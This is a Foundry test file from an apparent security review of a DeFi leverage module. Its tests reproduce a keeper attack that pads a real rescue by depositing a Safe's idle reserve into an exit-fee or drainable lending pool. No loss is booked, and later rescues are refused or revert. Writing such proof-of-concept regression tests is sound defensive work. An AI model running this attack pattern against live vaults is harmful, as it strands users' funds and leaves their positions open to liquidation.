// SPDX-License-Identifier: MIT
pragma solidity ^0.8.23;

import {AttackBase} from "./AttackBase.sol";
import {RiggedVault} from "../utils/RiggedVault.sol";
import {ILeverageModule, Policy, Plan, Action, ActionKind, EpochUsage} from "../../src/interfaces/ILeverageModule.sol";
import {PackedUserOperation} from "@account-abstraction/contracts/interfaces/PackedUserOperation.sol";
import {Id} from "@morpho-org/morpho-blue/src/interfaces/IMorpho.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC4626} from "@openzeppelin/contracts/token/ERC20/extensions/ERC4626.sol";
import {YieldVault} from "../utils/YieldVault.sol";

/// @notice A fee-free lending pool (MetaMorpho-like in what matters here): lent-out assets still count in totalAssets, so
/// shares are valued at par, but a withdrawal needs idle liquidity. `lend` moves liquidity out to borrowers.
contract LendingPool is ERC4626 {
    uint256 public lent;

    constructor(IERC20 asset_) ERC20("Lending", "LND") ERC4626(asset_) {}

    function totalAssets() public view override returns (uint256) {
        return super.totalAssets() + lent;
    }

    function lend(address borrower, uint256 assets) external {
        lent += assets;
        IERC20(asset()).transfer(borrower, assets);
    }
}

/// @notice Review brk10r of issue 10 (item 3 x item 2): a plan may deposit the Safe's idle funds, which no action of the
/// plan brought in and no sub-account's move needs, into any pool its policy allows. `_checkInflowsUsed` bounds pool
/// withdrawals and idle inflows, never deposits beyond inflows; the loss accounting values the pool at
/// `convertToAssets`, so a pool that charges on exit books nothing when the idle funds go in. The keeper strands the
/// Safe's rescue reserve in the owner's 1%-exit-fee pool next to a genuine rescue (accepted, 0 loss booked, nothing
/// charged to the epoch budget); every later rescue must take it out at 1% > maxLossBps (50) and is refused
/// (`ValueLossExceeded`) until Morpho liquidates.
contract Brk10rIdleParkingTest is AttackBase {
    RiggedVault internal feePool;

    function setUp() public override {
        super.setUp();
        // The owner's choice (issue 10 item 2's setup): the WETH sub-account's one allowed pool charges a 1% exit fee;
        // its rescue reserve is 8,000 USDC held idle in the Safe (Repay from the wallet needs no pool).
        feePool = _feePool(usdc, 100e6, 100);
        setPolicy(defaultPolicy(wethMarket, address(feePool)));
        usdc.mint(safe, 8_000e6);
    }

    /// @dev FAILS TODAY: a rescue padded with DepositToPool(idle reserve) into an exit-fee pool is accepted with no loss
    /// booked, and strands the reserve: the next honest rescue is refused (ValueLossExceeded) for good.
    function test_Brk10r_IdleReserveParkedInExitFeePoolStallsTheNextRescue() public {
        vm.skip(true); // FAILS TODAY: deposits of idle funds beyond the plan's inflows are accepted (no material use)
        uint256 idle = usdc.balanceOf(safe);
        assertEq(idle, 56_000e6, "48,000 borrowed in the fixture + the 8,000 reserve");
        uint256 repay = _repayToReach(1.3e18); // ~2,700 USDC: 1.1467 -> 1.30, inside the landing zone [1.2467, 1.55]

        // The attack: the genuine rescue, plus the rest of the idle reserve deposited into the exit-fee pool.
        Action[] memory a = new Action[](2);
        a[0] = action(ActionKind.Repay, 0, address(0), repay);
        a[1] = action(ActionKind.DepositToPool, 0, address(feePool), idle - repay);
        Plan memory plan;
        plan.subAccounts = new bytes32[](1);
        plan.subAccounts[0] = wethId;
        plan.actions = a;
        PackedUserOperation memory op = keeperOp(safe, keeper, plan, keeperKey);
        uint256 sharesBefore = feePool.balanceOf(safe);
        (bool ok, bytes memory reason) = handle(op);
        // Expected: refused (a pool named for funds no action of the plan brought in and no move needs, item 3).
        // Today: accepted (ok == true), 0 loss booked, 53,877 USDC stranded behind a 1% exit fee (539.77 USDC).
        assertFalse(ok, "idle reserve parked in the exit-fee pool next to a rescue");
        assertEq(feePool.balanceOf(safe), sharesBefore, "no pool shares bought with the idle reserve");
        assertEq(module.getEpochUsage(safe, wethId).lossPpb, 0);

        // The crash continues: WETH is due again, the only funds are in the exit-fee pool.
        vm.warp(block.timestamp + 1 hours);
        _dropWethHealthTo(1.15e18);
        uint256 need = _repayToReach(1.3e18);
        Plan memory rescue = plan1(
            wethId,
            action(ActionKind.WithdrawFromPool, 0, address(feePool), need),
            action(ActionKind.Repay, 0, address(0), need)
        );
        // Expected: the honest rescue is paid from the idle reserve the attack could not touch.
        Plan memory honest = plan1(wethId, action(ActionKind.Repay, 0, address(0), need), action(ActionKind.Repay, 0, address(0), 1));
        honest.actions = new Action[](1);
        honest.actions[0] = action(ActionKind.Repay, 0, address(0), need);
        (ok, reason) = handle(keeperOp(safe, keeper, honest, keeperKey));
        assertTrue(ok, "the honest rescue from the idle reserve lands");
        rescue; // today the only source left is the fee pool, and that rescue is refused (observed test below)
    }

    /// @dev Observed figures of the same attack (not skipped, asserts what happens today, so it fails once fixed):
    /// the padded rescue is accepted and the honest rescue after it is refused.
    function test_Brk10r_Observed_IdleReserveParkedThenRescueRefused() public {
        // (runs today)
        uint256 idle = usdc.balanceOf(safe);
        uint256 repay = _repayToReach(1.3e18);
        Action[] memory a = new Action[](2);
        a[0] = action(ActionKind.Repay, 0, address(0), repay);
        a[1] = action(ActionKind.DepositToPool, 0, address(feePool), idle - repay);
        Plan memory plan;
        plan.subAccounts = new bytes32[](1);
        plan.subAccounts[0] = wethId;
        plan.actions = a;
        int256 valueBefore = safeValue(feePool);
        handleOk(keeperOp(safe, keeper, plan, keeperKey));
        EpochUsage memory usage = module.getEpochUsage(safe, wethId);
        emit log_named_uint("repaid", repay);
        emit log_named_uint("parked", idle - repay);
        emit log_named_uint("lossPpb booked", usage.lossPpb);
        // Realisable value of the parked reserve: 1% less (RiggedVault's exit fee).
        uint256 shares = feePool.balanceOf(safe);
        uint256 fair = feePool.convertToAssets(shares);
        emit log_named_uint("pool assets (convertToAssets)", fair);
        emit log_named_uint("hidden exit cost (1%)", fair / 100);
        emit log_named_int("safe value change at convertToAssets", safeValue(feePool) - valueBefore);

        vm.warp(block.timestamp + 1 hours);
        _dropWethHealthTo(1.15e18);
        uint256 need = _repayToReach(1.3e18);
        Plan memory rescue = plan1(
            wethId,
            action(ActionKind.WithdrawFromPool, 0, address(feePool), need),
            action(ActionKind.Repay, 0, address(0), need)
        );
        (bool ok, bytes memory reason) = handle(keeperOp(safe, keeper, rescue, keeperKey));
        assertFalse(ok);
        assertEq(bytes4(reason), ILeverageModule.ValueLossExceeded.selector);
        (uint256 loss, uint256 moved,) = abi.decode(_tail(reason), (uint256, uint256, uint256));
        emit log_named_uint("rescue needs", need);
        emit log_named_uint("rescue loss", loss);
        emit log_named_uint("rescue allowance (50 bps of moved)", moved * 50 / 10_000);
        // Smallest landing: the zone's low edge from 1.15 is 1.25, still through the same 1% fee.
        uint256 minimal = _repayToReach(1.251e18);
        rescue.actions[0].amount = minimal;
        rescue.actions[1].amount = minimal;
        (ok, reason) = handle(keeperOp(safe, keeper, rescue, keeperKey));
        assertFalse(ok, "the smallest rescue into the landing zone");
        assertEq(bytes4(reason), ILeverageModule.ValueLossExceeded.selector);
    }

    function _tail(bytes memory data) internal pure returns (bytes memory out) {
        out = new bytes(data.length - 4);
        for (uint256 i; i < out.length; ++i) {
            out[i] = data[i + 4];
        }
    }

    /// @dev The same gap with no fee at all: the idle reserve parked in the owner's fee-free lending pool (valued at par);
    /// borrowers then draw its liquidity, as in a crash, and the rescue's withdrawal reverts while the Safe's 53,877 USDC
    /// idle reserve, which needed no pool, is gone from the wallet.
    function test_Brk10r_Observed_IdleReserveParkedInLendingPoolThenRescueReverts() public {
        LendingPool pool = new LendingPool(usdc);
        _seedVault(YieldVault(address(pool)), usdc, 1_000e6);
        setPolicy(defaultPolicy(wethMarket, address(pool)));
        uint256 idle = usdc.balanceOf(safe);
        uint256 repay = _repayToReach(1.3e18);
        Action[] memory a = new Action[](2);
        a[0] = action(ActionKind.Repay, 0, address(0), repay);
        a[1] = action(ActionKind.DepositToPool, 0, address(pool), idle - repay);
        Plan memory plan;
        plan.subAccounts = new bytes32[](1);
        plan.subAccounts[0] = wethId;
        plan.actions = a;
        handleOk(keeperOp(safe, keeper, plan, keeperKey)); // accepted today
        assertEq(module.getEpochUsage(safe, wethId).lossPpb, 0);
        assertEq(usdc.balanceOf(safe), 0, "no idle reserve left");

        // Utilisation goes to 100% (borrowers draw the pool's cash); the crash continues.
        pool.lend(makeAddr("borrowers"), usdc.balanceOf(address(pool)));
        vm.warp(block.timestamp + 1 hours);
        _dropWethHealthTo(1.15e18);
        uint256 need = _repayToReach(1.3e18);
        Plan memory rescue = plan1(
            wethId,
            action(ActionKind.WithdrawFromPool, 0, address(pool), need),
            action(ActionKind.Repay, 0, address(0), need)
        );
        (bool ok, bytes memory reason) = handle(keeperOp(safe, keeper, rescue, keeperKey));
        assertFalse(ok, "the rescue cannot get its funds out");
        assertEq(bytes4(reason), ILeverageModule.ActionFailed.selector);
        emit log_named_uint("parked at par", pool.convertToAssets(pool.balanceOf(safe)));
    }
}
